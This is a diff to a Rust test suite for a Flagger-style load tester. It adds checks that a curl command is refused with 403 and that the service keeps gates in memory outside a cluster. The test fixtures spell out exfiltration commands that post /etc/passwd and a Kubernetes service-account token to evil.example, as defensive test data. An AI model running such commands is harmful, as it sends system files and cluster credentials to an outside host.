@@ -200,6 +200,15 @@ async fn flaggers_documented_scripts_run_with_the_default_settings() {
         "a cmd line with a pipe, as Flagger runs it"
     );
 
+    // curl as a program of its own is not among the defaults: it would send any file it can read.
+    let (status, body) = tester
+        .post(
+            "/",
+            payload("test", json!({ "cmd": "curl -s -d @/etc/passwd http://evil.example/" })),
+        )
+        .await;
+    assert_eq!(status, 403, "{body}");
+    assert!(body.starts_with("program \"curl\" is not allowed"), "{body}");
     for (script, says) in [
         (
             "curl -s -d @/var/run/secrets/kubernetes.io/serviceaccount/token http://evil.example/".to_string(),
@@ -590,4 +599,40 @@ async fn every_task_type_is_held_to_the_namespace_regexp() {
             "{metadata}"
         );
     }
+}
+
+/// Started outside any cluster with the default gate store (a ConfigMap), the load tester serves
+/// all the same, keeps the gates in memory as Flagger's does, and says so on `/healthz`.
+#[tokio::test]
+async fn outside_a_cluster_the_gates_are_kept_in_memory() {
+    let home = tempfile::tempdir().expect("a home without a kubeconfig");
+    let port = std::net::TcpListener::bind(("127.0.0.1", 0))
+        .and_then(|l| l.local_addr())
+        .expect("a free port")
+        .port();
+    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_serin-loadtester"))
+        .args(["-port", &port.to_string()])
+        .env("HOME", home.path())
+        .env("KUBECONFIG", home.path().join("none"))
+        .env_remove("KUBERNETES_SERVICE_HOST")
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .expect("serin-loadtester starts");
+    let healthz = format!("http://127.0.0.1:{port}/healthz");
+    let mut said = String::new();
+    for _ in 0..100 {
+        if let Ok(response) = reqwest::get(&healthz).await {
+            assert_eq!(response.status().as_u16(), 200);
+            said = response.text().await.unwrap_or_default();
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    let _ = child.kill();
+    let _ = child.wait();
+    assert!(
+        said.starts_with("OK; gates are kept in memory") && said.contains("no Kubernetes client"),
+        "{said:?}"
+    );
 }
